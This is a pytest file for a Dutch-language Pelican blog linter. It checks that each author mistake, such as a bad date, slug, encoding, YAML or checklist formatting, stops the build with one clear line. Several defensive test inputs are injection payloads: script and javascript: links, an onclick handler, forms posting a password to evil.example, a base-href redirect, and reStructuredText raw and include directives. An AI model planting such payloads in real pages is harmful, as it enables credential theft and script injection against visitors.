"""Every mistake an author can make, each on its own: `invoke check` reports it first,
and the build (as `invoke build`, the preview and `publish` run it) stops with the same
Dutch line, `bestand:regel: fout: wat er mis is (wat je kunt doen)`, leaving output/
as it was. Both run in this process on a small copy of content/."""

import re
import shutil
import socket
from pathlib import Path

import pytest

from authoring.lint import main as check_main
from authoring.messages import run_pelican
from tests.conftest import ROOT
from tests.support.images import image_bytes

SETTINGS = ROOT / "pelicanconf.py"
POST = "posts/dilemmas.md"
SHEET = "worksheets/doelen.yaml"
LIST = "checklists/uitbesteden.md"
DATE_ADVICE = (
    "(schrijf hem als 01-02-2025 10:00 voor 1 februari 2025, of 2025-02-01 10:00)"
)
TASK_ADVICE = (
    "(begin elke taak met '- [ ] ': streepje, spatie, haakjes met een spatie "
    "ertussen, of laat een vervolgregel inspringen)"
)


def edit(name: str, old: str, new: str, count: int = 1):
    """A mistake: replace `old` by `new` in a content file (the first `count`)."""

    def apply(content: Path) -> None:
        path = content / name
        text = path.read_text(encoding="utf-8")
        assert old in text, (name, old)
        path.write_text(text.replace(old, new, count), encoding="utf-8")

    return apply


def add(name: str, data: bytes):
    def apply(content: Path) -> None:
        (content / name).parent.mkdir(exist_ok=True)
        (content / name).write_bytes(data)

    return apply


def in_body(text: str):
    """A mistake in the post's text: `text` as a paragraph of its own (line 10)."""
    return edit(POST, "\n- Stel jezelf", f"\n{text}\n\n- Stel jezelf")


def dated(value: str):
    """The post's date (line 3) written as `value`."""
    return edit(POST, "Date: 2024-01-15 09:00", f"Date: {value}")


def in_header(line: str):
    """A mistake in the post's fields: `line` below the slug (line 3)."""
    return edit(POST, "Slug: dilemmas\n", f"Slug: dilemmas\n{line}\n")


def both(*mistakes):
    def apply(content: Path) -> None:
        for mistake in mistakes:
            mistake(content)

    return apply


def at(name: str, text: str) -> str:
    """`content/<name>:<line>` of the first line of the real content holding `text`."""
    lines = (ROOT / "content" / name).read_text(encoding="utf-8").splitlines()
    return (
        f"content/{name}:{next(n for n, line in enumerate(lines, 1) if text in line)}"
    )


def drop_tasks(content: Path) -> None:
    """The tasks of the checklist's first group taken out."""
    path = content / LIST
    text = path.read_text()
    head, first, rest = text.partition("## Mijn doelstellingen\n")
    group, _next, after = rest.partition("\n## ")
    kept = [line for line in group.splitlines() if "- [ ]" not in line]
    path.write_text(head + first + "\n".join(kept) + _next + after, encoding="utf-8")


TYPE_AT = at(SHEET, "type: textarea, required")
COMPUTE_AT = at(SHEET, "compute: dagen * uren_per_dag")
TITLE_AT = at(SHEET, "title: Mijn doelstellingen")
GROUP_AT = at(LIST, "## Mijn doelstellingen")
TASK_AT = at(LIST, "Elke doelstelling is helder")
FIRST_TASK = "Ik heb mijn doelstellingen voor mezelf opgeschreven."
FIRST_TASK_AT = at(LIST, FIRST_TASK)


def first_task(written: str):
    """The first item under a checklist heading, written as `written` + the text."""
    return edit(LIST, f"- [ ] {FIRST_TASK}", f"{written}{FIRST_TASK}")


# (name, the mistake, the line check and the build both print)
MISTAKES = [
    (
        "an impossible date",
        dated("31-13-2025"),
        f"content/{POST}:3: fout: de datum '31-13-2025' bestaat niet {DATE_ADVICE}",
    ),
    (
        "an unreadable date",
        dated("gisteren"),
        f"content/{POST}:3: fout: de datum 'gisteren' is niet te lezen {DATE_ADVICE}",
    ),
    (
        "a two-digit year",
        dated("15-01-24"),
        f"content/{POST}:3: fout: de datum '15-01-24' is niet te lezen {DATE_ADVICE}",
    ),
    (
        "an unreadable modification date",
        in_header("Modified: 2 maart"),
        f"content/{POST}:3: fout: de datum '2 maart' is niet te lezen {DATE_ADVICE}",
    ),
    (
        "no title",
        edit(POST, "Title: Dilemma's\n", ""),
        f"content/{POST}:1: fout: de post heeft geen titel "
        "(zet bovenaan een regel als: Title: Mijn titel)",
    ),
    (
        "a slug used twice",
        add(
            "posts/ander.md", b"Title: Ander\nSlug: dilemmas\nDate: 01-02-2024\n\nT.\n"
        ),
        "content/posts/ander.md:2: fout: de slug 'dilemmas' heeft "
        f"content/{POST} ook (geef een van beide een eigen Slug:, anders overschrijft "
        "de ene pagina de andere)\n"
        f"content/{POST}:2: fout: de slug 'dilemmas' heeft content/posts/ander.md ook "
        "(geef een van beide een eigen Slug:, anders overschrijft de ene pagina de "
        "andere)",
    ),
    (
        "a header line that is no field, with fields below it",
        edit(POST, "Category: Ondernemen", "Category\t: Ondernemen"),
        f"content/{POST}:4: fout: deze regel is geen veld (Naam: waarde), dus de "
        "velden eronder tellen niet mee, zoals Tags (maak er een veld van of haal de "
        "regel weg; zet na de velden een lege regel)",
    ),
    (
        "a slug that is no web address",
        edit(POST, "Slug: dilemmas", "Slug: Mijn Eerste Stalpost!"),
        f"content/{POST}:2: fout: de slug 'Mijn Eerste Stalpost!' kan niet in een "
        "webadres: alleen kleine letters (zonder accenten), cijfers, - en _ "
        "(schrijf Slug: mijn-eerste-stalpost)",
    ),
    (
        "an image without a description",
        in_body("![](images/paard.jpg)"),
        f"content/{POST}:10: fout: de afbeelding paard.jpg heeft geen beschrijving "
        "(alt-tekst) (schrijf tussen de haken wat er op de foto staat: "
        "![Paard in de wei]({static}/images/paard.jpg))",
    ),
    (
        "a link to a post that does not exist",
        in_body("Zie [dit]({filename}/posts/nope.md)."),
        f"content/{POST}:10: fout: de link {{filename}}/posts/nope.md wijst naar een "
        "bestand dat niet bestaat (controleer de naam en de map, bijvoorbeeld "
        "{filename}/posts/dilemmas.md of {static}/images/foto.jpg)",
    ),
    (
        "an image linked under a wrong name",
        both(
            add("images/paard_groot.jpg", image_bytes(size=(64, 48))),
            in_body("![Paard in de wei]({static}/images/paard-groot.jpg)"),
        ),
        f"content/{POST}:10: fout: de link {{static}}/images/paard-groot.jpg wijst "
        "naar een bestand dat niet bestaat (controleer de naam en de map, bijvoorbeeld "
        "{filename}/posts/dilemmas.md of {static}/images/foto.jpg)",
    ),
    (
        "a photo that is no image",
        both(
            add("images/paard.jpg", b"HEIC, niet echt een jpeg"),
            in_body("![Paard in de wei]({static}/images/paard.jpg)"),
        ),
        f"content/{POST}:10: fout: {{static}}/images/paard.jpg is geen afbeelding die "
        "de site kan lezen (beschadigd, of een ander soort bestand) (open de foto in "
        "een fotoprogramma en sla hem opnieuw op als JPEG of PNG)",
    ),
    (
        "an unknown status",
        in_header("Status: concept"),
        f"content/{POST}:3: fout: onbekende status 'concept' (gebruik published, "
        "draft of hidden)",
    ),
    (
        "an image linked as a post",
        both(
            add("images/paard.jpg", b"jpeg"),
            in_body("![Paard]({filename}/images/paard.jpg)"),
        ),
        f"content/{POST}:10: fout: de link {{filename}}/images/paard.jpg wijst naar "
        "een afbeelding of bestand, niet naar een post (schrijf "
        "{static}/images/paard.jpg)",
    ),
    (
        "a Windows-1252 file",
        add(
            "posts/cafe.md", "Title: Café\nDate: 01-02-2024\n\nTékst\n".encode("cp1252")
        ),
        "content/posts/cafe.md:1: fout: het bestand is geen UTF-8-tekst maar "
        "bijvoorbeeld Windows-1252 (open het en sla het op als UTF-8; in Kladblok: "
        "Opslaan als, Codering: UTF-8)",
    ),
    (
        "a Windows-1252 checklist",
        add("checklists/taken.md", "# Taken\n\n- [ ] Caf\u00e9\n".encode("cp1252")),
        "content/checklists/taken.md:1: fout: het bestand is geen UTF-8-tekst maar "
        "bijvoorbeeld Windows-1252 (open het en sla het op als UTF-8; in Kladblok: "
        "Opslaan als, Codering: UTF-8)",
    ),
    (
        "a Windows-1252 worksheet",
        add("worksheets/oud.yaml", "title: Caf\u00e9\n".encode("cp1252")),
        "content/worksheets/oud.yaml:1: fout: het bestand is geen UTF-8-tekst maar "
        "bijvoorbeeld Windows-1252 (open het en sla het op als UTF-8; in Kladblok: "
        "Opslaan als, Codering: UTF-8)",
    ),
    (
        "an empty file",
        add("posts/leeg.md", b""),
        "content/posts/leeg.md:1: fout: het bestand is leeg (schrijf er een post in "
        'of verwijder het; invoke new-post "Mijn titel" maakt een begin)',
    ),
    (
        "an old Wix address with a space",
        in_header("Wix_url: /post/mijn post"),
        f"content/{POST}:3: fout: Wix_url: '/post/mijn post' is geen oud adres "
        "(schrijf het oude adres zonder spaties, zoals /post/mijn-post)",
    ),
    (
        "an unknown worksheet",
        in_header("Worksheet: doelenn"),
        f"content/{POST}:3: fout: Worksheet: er is geen werkblad met de naam "
        "'doelenn' (bedoel je doelen? kies uit: doelen, of none voor geen werkblad)",
    ),
    (
        "a field type typo",
        edit(SHEET, "type: textarea, required", "type: tekst, required"),
        f"{TYPE_AT}: fout: sections[0].fields[0].type: 'tekst' kan hier "
        "niet (bedoel je text? kies uit: text, textarea, number, money, date, yesno, "
        "choice)",
    ),
    (
        "a formula naming an unknown field",
        edit(SHEET, "compute: dagen * uren_per_dag", "compute: dagen * urenperdag"),
        f"{COMPUTE_AT}: fout: sections[2].fields[4].compute: de formule "
        "'dagen * urenperdag' noemt het onbekende veld 'urenperdag' (bedoel je "
        "uren_per_dag? kies uit: dagen, klanten_extra, omzet_kwijt, uren_kwijt, "
        "uren_per_dag, uren_per_klant, uurtarief)",
    ),
    (
        "a division by zero",
        edit(SHEET, "compute: dagen * uren_per_dag", "compute: dagen / 0"),
        f"{COMPUTE_AT}: fout: sections[2].fields[4].compute: de formule "
        "'dagen / 0' deelt door nul (deel door een veld of door een ander getal "
        "dan 0)",
    ),
    (
        "bad YAML indentation",
        edit(
            SHEET, "    title: Mijn doelstellingen", "     title: Mijn doelstellingen"
        ),
        f"{TITLE_AT}: fout: de opmaak (YAML) klopt hier niet (controleer de "
        "inspringing: wat bij elkaar hoort, springt even ver in, met spaties)",
    ),
    (
        "a tab in YAML",
        edit(SHEET, "    title: Mijn doelstellingen", "\ttitle: Mijn doelstellingen"),
        f"{TITLE_AT}: fout: er staat een tab in (spring in met spaties, niet met tabs)",
    ),
    (
        "a checklist group without items",
        drop_tasks,
        f"{GROUP_AT}: fout: de groep 'Mijn doelstellingen' heeft geen taken "
        "(begin elke taak met '- [ ] ': streepje, spatie, haakjes met een spatie "
        "ertussen)",
    ),
    (
        "a checklist with three different mistakes: all at once",
        both(
            edit(LIST, "Article: dilemmas", "Artikel: dilemmas"),
            first_task("-[ ] "),
            edit(LIST, "- [ ] Elke doelstelling is uitdagend.", "- [ ] "),
        ),
        "content/checklists/uitbesteden.md:1: fout: onbekende regel 'Artikel:' boven "
        "de titel (boven de titel kan alleen Article: met de slug van een post)\n"
        f"{FIRST_TASK_AT}: fout: '-[ ] {FIRST_TASK}' is geen taak {TASK_ADVICE}\n"
        f"{at(LIST, 'Elke doelstelling is uitdagend.')}: fout: deze taak heeft geen "
        "tekst (schrijf de taak na '- [ ] ')",
    ),
    (
        "a list line without box",
        edit(
            LIST, "- [ ] Elke doelstelling is helder", "- Elke doelstelling is helder"
        ),
        f"{TASK_AT}: fout: '- Elke doelstelling is helder en concreet.' is "
        f"geen taak {TASK_ADVICE}",
    ),
    (
        "a box without space",
        edit(
            LIST,
            "- [ ] Elke doelstelling is helder",
            "-[ ] Elke doelstelling is helder",
        ),
        f"{TASK_AT}: fout: '-[ ] Elke doelstelling is helder en concreet.' is "
        f"geen taak {TASK_ADVICE}",
    ),
    (
        "a ticked box",
        edit(
            LIST,
            "- [ ] Elke doelstelling is helder",
            "- [x] Elke doelstelling is helder",
        ),
        f"{TASK_AT}: fout: '- [x] Elke doelstelling is helder en concreet.' "
        f"is geen taak {TASK_ADVICE}",
    ),
    (
        "a header line indented with a tab",
        edit(POST, "Category: Ondernemen", "\tCategory: Ondernemen"),
        f"content/{POST}:4: fout: deze regel begint met een tab of spaties en telt "
        "daardoor mee als vervolg van Date (haal de tab of spaties aan het begin van "
        "de regel weg)",
    ),
    (
        "a field written twice",
        in_header("Date: 2024-01-16"),
        f"content/{POST}:4: fout: het veld Date staat er twee keer (ook op regel 3) "
        "(haal een van beide weg)",
    ),
    *(
        (
            f"the first item under a heading as {written.strip()!r}",
            first_task(written),
            f"{FIRST_TASK_AT}: fout: '{written}{FIRST_TASK}' is geen taak "
            f"{TASK_ADVICE}",
        )
        for written in ("-[ ] ", "- ", "- [x] ", "[ ] ")
    ),
    (
        "a picture by {static} in a checklist (only the PDF's build loads it)",
        first_task("- [ ] ![Paard]({static}/images/paard.jpg) "),
        f"{FIRST_TASK_AT}: fout: een checklist kan geen bestand van de site tonen "
        "met {static} ('{static}/images/paard.jpg') (haal de afbeelding weg; een "
        "foto zet je in de post zelf, boven of onder de checklist)",
    ),
    (
        "a frame",
        in_body('<iframe src="https://x.nl/v"></iframe>'),
        f"content/{POST}:10: fout: een ingesloten frame (<iframe>) kan niet op de "
        "site (zet er een gewone link neer, zoals [Bekijk de video](https://...))",
    ),
    (
        "a script",
        in_body("<script>alert(1)</script>"),
        f"content/{POST}:10: fout: een script (<script>) kan niet in een post (haal "
        "het weg; werkbladen, checklists en formulieren komen van de site zelf)",
    ),
    (
        "an inline style",
        in_body('<p style="color:red">Rood</p>'),
        f"content/{POST}:10: fout: eigen opmaak (style=) kan niet in een post (haal "
        "het weg; de site verzorgt de opmaak: gebruik **vet**, *schuin* of ## koppen)",
    ),
    (
        "an event handler",
        in_body('<p onclick="go()">Klik</p>'),
        f"content/{POST}:10: fout: de code onclick=... kan niet in een post (haal het "
        "weg; een gewone link werkt zonder code)",
    ),
    (
        "a form that posts to another site",
        in_body('<form action="https://evil.example/steel">Wachtwoord</form>'),
        f"content/{POST}:10: fout: de HTML-code <form> kan niet in een post (haal "
        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
        "formulieren komen van de site zelf)",
    ),
    (
        "a base address and a refresh",
        in_body('<base href="https://evil.example/"><meta http-equiv="refresh">'),
        f"content/{POST}:10: fout: de HTML-code <base> kan niet in een post (haal "
        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
        "formulieren komen van de site zelf)\n"
        f"content/{POST}:10: fout: de HTML-code <meta> kan niet in een post (haal "
        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
        "formulieren komen van de site zelf)",
    ),
    (
        "a javascript: link",
        in_body("[Klik](javascript:alert(1))"),
        f"content/{POST}:10: fout: een adres dat begint met javascript: kan niet in "
        "een post (gebruik een webadres dat begint met https://, of mailto: voor "
        "e-mail)",
    ),
    (
        "an attribute Markdown does not make",
        in_body('<a href="https://x.nl/" target="_blank">X</a>'),
        f"content/{POST}:10: fout: de HTML-code target=... kan niet in een post (haal "
        "het weg; de site geeft links en afbeeldingen zelf wat ze nodig hebben)",
    ),
    (
        "a form in the summary",
        edit(POST, "Summary: ", 'Summary: <form action="https://evil.example/"> '),
        f"content/{POST}:6: fout: de HTML-code <form> kan niet in een post (haal "
        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
        "formulieren komen van de site zelf)",
    ),
]


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    content = tmp_path_factory.mktemp("pristine") / "content"
    shutil.copytree(ROOT / "content", content)
    return content


def project_with(tmp_path: Path, pristine: Path, mistake) -> Path:
    content = tmp_path / "content"
    shutil.copytree(pristine, content)
    mistake(content)
    return content


def lines(text: str, content: Path) -> list[str]:
    """Output lines, with the test's folder taken off the paths."""
    folder = str(content.resolve().parent) + "/"
    return [line.replace(folder, "") for line in text.splitlines() if line]


def each(cases: list) -> pytest.MarkDecorator:
    """Parametrize a test by (mistake, expected lines), named after the mistake."""
    return pytest.mark.parametrize(
        "mistake, expected", [c[1:] for c in cases], ids=[c[0] for c in cases]
    )


def checked(tmp_path: Path, pristine: Path, capsys, mistake, expected: str):
    """Make the mistake; `invoke check` fails on it with the expected lines. The
    content folder, and what check printed."""
    content = project_with(tmp_path, pristine, mistake)
    assert check_main(SETTINGS, content) == 1
    out = capsys.readouterr().out
    reported = lines(out, content)
    assert all(line in reported for line in expected.splitlines())
    return content, out


@each(MISTAKES)
def test_check_reports_it_and_the_build_stops_with_the_same_line(
    tmp_path, pristine, capsys, mistake, expected
):
    content, checked_output = checked(tmp_path, pristine, capsys, mistake, expected)

    output = tmp_path / "output"
    output.mkdir()
    (output / "index.html").write_text("vorige versie", encoding="utf-8")
    told: list[str] = []
    code = run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append)
    assert code == 1
    built = lines("\n".join(told), content)
    assert [line for line in built if ": fout: " in line] == expected.splitlines()
    assert set(built) <= set(lines(checked_output, content))
    # Pelican finds a broken link, and the pictures an unreadable photo, while writing.
    if not any(late in expected for late in ("{filename}", "kan lezen")):
        assert [p.name for p in output.iterdir()] == ["index.html"]
    assert (output / "index.html").read_text(encoding="utf-8") == "vorige versie"
    assert not re.search(r"Traceback|ERROR|CRITICAL|WARNING", capsys.readouterr().err)


def test_a_file_that_is_not_markdown_is_named(tmp_path, pristine, capsys):
    content = project_with(tmp_path, pristine, add("posts/notities.txt", b"hallo"))
    assert check_main(SETTINGS, content) == 0  # a warning
    assert (
        "content/posts/notities.txt:1: waarschuwing: notities.txt is geen "
        "Markdown-bestand (.md), dus het komt niet op de site (zet de tekst in een "
        ".md-bestand, of haal het bestand weg uit content/posts/)"
    ) in lines(capsys.readouterr().out, content)


def test_a_content_folder_that_does_not_exist(capsys):
    assert check_main(SETTINGS, Path("/nope")) == 1
    assert capsys.readouterr().out == (
        "/nope: fout: map niet gevonden (geef de map met je posts mee, bijvoorbeeld: "
        "invoke check --content content)\n"
    )


def test_dates_are_read_day_first_in_the_check_and_the_build(tmp_path, pristine):
    content = project_with(tmp_path, pristine, dated("01-02-2025"))
    assert check_main(SETTINGS, content) == 0
    output = tmp_path / "output"
    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], print) == 0
    page = (output / "blog/dilemmas/index.html").read_text(encoding="utf-8")
    assert 'datetime="2025-02-01' in page and "1 februari 2025" in page


RAW_RST = """Ruw
###

:date: 2024-01-02 10:00
:slug: ruw
:summary: Ruw.

Tekst.

.. raw:: html

   <form action="https://evil.example/"><input name="wachtwoord"></form>

.. include:: ../../pelicanconf.py
   :literal:
"""


def test_a_restructuredtext_post_passes_no_html_or_other_file_through(
    tmp_path, pristine
):
    content = project_with(tmp_path, pristine, add("posts/ruw.rst", RAW_RST.encode()))
    shutil.copy(SETTINGS, tmp_path / "pelicanconf.py")  # what the include names
    told: list[str] = []
    output = tmp_path / "output"
    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append) == 1
    assert lines("\n".join(told), content) == [
        "content/posts/ruw.rst:10: fout: HTML in een reStructuredText-post (.. raw::) "
        "kan niet op de site (schrijf het als gewone tekst, of zet de post om naar "
        "Markdown)"
    ]
    assert not (output / "blog/ruw/index.html").exists()
    (content / "posts/ruw.rst").write_text(
        RAW_RST.split(".. raw::")[0] + RAW_RST.split("</form>")[1]
    )
    told.clear()
    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append) == 1
    assert lines("\n".join(told), content) == [
        "content/posts/ruw.rst:12: fout: een ander bestand invoegen (.. include::) kan "
        "niet in een post (zet de tekst zelf in de post)"
    ]


@pytest.mark.parametrize(
    "slug", ["jamstack--unwrapping-the-hype", "mijn_eerste_post", "2024-01-15-stal"]
)
def test_every_slug_a_real_blog_has_is_kept(tmp_path, pristine, capsys, slug):
    post = f"Title: Oud\nSlug: {slug}\nDate: 01-02-2024\nSummary: Oud.\n\nTekst.\n"
    content = project_with(tmp_path, pristine, add("posts/oud.md", post.encode()))
    assert check_main(SETTINGS, content) == 0, capsys.readouterr().out
    output = tmp_path / "output"
    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], print) == 0
    assert (output / f"blog/{slug}/index.html").is_file()


def test_a_mistake_left_in_place_stops_every_build_of_the_preview(tmp_path, pristine):
    """The preview builds again and again in one process: each build sees it."""
    content = project_with(tmp_path, pristine, in_body("![](images/paard.jpg)"))
    for _ in range(2):
        told: list[str] = []
        args = [str(content), "-o", str(tmp_path / "output")]
        assert run_pelican(SETTINGS, args, told.append) == 1
        assert [line.split(": fout: ")[1][:40] for line in told] == [
            "de afbeelding paard.jpg heeft geen besch"
        ]


def test_a_default_worksheet_that_does_not_exist_is_told_at_the_setting(
    tmp_path, pristine, capsys
):
    settings = tmp_path / "pelicanconf.py"
    text = SETTINGS.read_text(encoding="utf-8")
    settings.write_text(text + '\nWORKSHEET_DEFAULT = "doelenn"\n', encoding="utf-8")
    (tmp_path / "theme").symlink_to(ROOT / "theme")
    content = project_with(tmp_path, pristine, lambda content: None)
    line = len(settings.read_text(encoding="utf-8").splitlines())
    expected = (
        f"pelicanconf.py:{line}: fout: WORKSHEET_DEFAULT: er is geen werkblad met de "
        "naam 'doelenn' (bedoel je doelen? kies uit: doelen, of none voor geen "
        "werkblad)"
    )
    assert check_main(settings, content) == 1
    assert expected in lines(capsys.readouterr().out, content)
    told: list[str] = []
    args = [str(content), "-o", str(tmp_path / "output")]
    assert run_pelican(settings, args, told.append) == 1
    assert [line for line in lines("\n".join(told), content) if "fout" in line] == [
        expected
    ]


def test_a_busy_port_is_one_dutch_line():
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        told: list[str] = []
        args = ["--listen", "--bind", "127.0.0.1", "--port", str(port)]
        assert run_pelican(SETTINGS, args, told.append) == 1
    assert told == [
        f"make serve: fout: poort {port} is al in gebruik, waarschijnlijk door een "
        "voorbeeld dat al draait (stop dat met Ctrl+C in het andere venster, of kies "
        f"een andere poort: make serve PORT={port + 1})"
    ]
